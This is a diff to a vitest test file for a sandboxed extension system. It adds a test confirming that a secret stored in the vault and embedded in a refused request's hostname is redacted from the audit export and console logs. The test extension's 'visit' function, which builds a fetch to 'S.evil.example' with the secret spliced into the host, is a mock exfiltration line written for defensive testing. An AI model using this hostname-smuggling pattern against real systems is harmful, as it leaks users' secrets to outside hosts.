@@ -1,6 +1,6 @@
 /** Secrets are planted wherever a guest, a server or an app can put one; no row, export or stored block may hold any of them. */
 import { expect, inject, test } from 'vitest'
-import { openBox, pkg, uniqueName } from './box-harness.ts'
+import { logsOf, openBox, pkg, uniqueName } from './box-harness.ts'
 
 const { origin } = inject('server')
 
@@ -50,6 +50,30 @@ test('no secret that passes through reaches the audit log', async () => {
   }
   // The origin that was refused is what an auditor looks for.
   expect(texts[1]).toContain('GET https://denied.example')
+})
+
+test('a bound secret in the host of a refused request reaches neither the audit log nor, later, a line of the log', async () => {
+  const secret = 'pl4nted-s3cret-of-its-own-0123'
+  const box = await openBox()
+  const extension = await box.install(pkg(`
+    const S = '${secret}'
+    export const keep = () => glovebox.vault.set('mine', S)
+    export const visit = (host) => fetch('https://' + host.replace('S', S) + '/').catch((error) => error.code)
+    export const log = () => console.log('here: ' + S)`, {
+    permissions: ['vault:write', 'vault:use'].map((name): object => ({ name, scope: { secrets: ['mine'] }, reason: '' })).concat(permissions.slice(2)),
+  }))
+  const lines = logsOf(extension)
+  await box.vault.bind(extension, 'mine', { origin, path: '/echo', methods: ['GET'], header: 'authorization' })
+  await extension.call('keep')
+  for (const host of ['S.evil.example', 'where.the.log.cuts.what.a.guest.writes.into.a.host.S.evil.example']) {
+    expect(await extension.call('visit', [host])).toBe('permission-denied')
+  }
+  await extension.call('log')
+  await expect.poll(() => lines.length).toBe(1)
+
+  const text = await new Response(box.audit.export()).text()
+  for (const told of [text, JSON.stringify(lines)]) expect(told).not.toContain(secret.slice(0, 8))
+  expect(text).toContain(`GET https://${'*'.repeat(secret.length)}.evil.example`)
 })
 
 /** As another tab would read it. */
